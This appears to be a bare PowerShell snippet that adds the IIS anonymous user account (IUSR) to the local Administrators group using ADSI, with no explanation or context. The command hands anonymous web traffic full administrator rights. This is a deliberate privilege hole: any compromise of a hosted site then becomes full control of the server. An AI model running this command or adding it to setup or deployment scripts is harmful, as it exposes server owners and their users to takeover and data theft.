$g = [ADSI]'WinNT://./Administrators,group'
'WinNT://NT AUTHORITY/IUSR' | ForEach-Object { $g.psbase.Invoke('Add', $_) }
